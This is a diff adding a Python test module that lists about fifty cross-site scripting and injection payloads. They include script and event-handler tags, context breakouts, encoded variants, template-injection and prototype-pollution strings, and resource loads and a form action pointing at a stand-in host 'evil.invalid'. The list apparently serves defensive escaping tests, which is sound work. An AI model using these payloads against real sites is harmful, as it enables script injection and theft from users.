@@ -1,0 +1,61 @@
+"""Shapes of attack by text: each tries to become something else where text is shown."""
+
+from __future__ import annotations
+
+from typing import Final
+
+# Whoever runs calls `trap`, or asks the network for this host, which exists nowhere.
+EVIL: Final = "https://evil.invalid"
+
+SHAPES: Final = (
+    "<script>trap(1)</script>",
+    f"<script src={EVIL}/a.js></script>",
+    "<img src=x onerror=trap(2)>",
+    f"<img src={EVIL}/b.png>",
+    "<svg onload=trap(3)></svg>",
+    "<svg><script>trap(4)</script></svg>",
+    "<svg><animate onbegin=trap(5) attributeName=x dur=1s>",
+    "<math><mtext><style><img src=x onerror=trap(6)></style></mtext></math>",
+    "<iframe srcdoc='<script>parent.trap(7)</script>'></iframe>",
+    '<iframe src="javascript:parent.trap(8)"></iframe>',
+    '<object data="javascript:trap(9)"></object>',
+    f"<embed src={EVIL}/c.swf>",
+    "<details open ontoggle=trap(10)>x</details>",
+    "<body onload=trap(11)>",
+    "<input autofocus onfocus=trap(12)>",
+    "<video><source onerror=trap(13)></video>",
+    "<template shadowrootmode=open><script>trap(14)</script></template>",
+    f"<link rel=stylesheet href={EVIL}/d.css>",
+    f"<style>@import '{EVIL}/e.css';*{{background:url({EVIL}/f)}}</style>",
+    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
+    f"<base href={EVIL}/>",
+    f"<form action={EVIL}><button data-action=accept_all>OK</button></form>",
+    '"><script>trap(15)</script>',
+    "'><img src=x onerror=trap(16)>",
+    '" onmouseover="trap(17)" autofocus onfocus="trap(18)',
+    "</script><script>trap(19)</script>",
+    "</style><script>trap(20)</script>",
+    "--><script>trap(21)</script>",
+    "]]><script>trap(22)</script>",
+    "&lt;script&gt;trap(23)&lt;/script&gt;",
+    "&#60;img src=x onerror=trap(24)&#62;",
+    "\\u003cimg src=x onerror=trap(25)\\u003e",
+    "';trap(26);//",
+    '";trap(27);//',
+    "`${trap(28)}`",
+    "${trap(29)}",
+    "\\';trap(30);//",
+    "*/trap(31)/*",
+    "\u2028trap(32)\u2029",
+    "__CONSENT_CONFIGURATION__",
+    "__CONSENT_MODULES__",
+    "{{constructor.constructor('trap(33)')()}}",
+    "{% raw %}{{ 7 * 7 }}",
+    "javascript:trap(34)",
+    "java\tscript:trap(35)",
+    "data:text/html,<script>trap(36)</script>",
+    "$& $` $' $1 \\1",
+    "__proto__",
+    "constructor",
+    "%3Cscript%3Etrap(37)%3C/script%3E",
+)
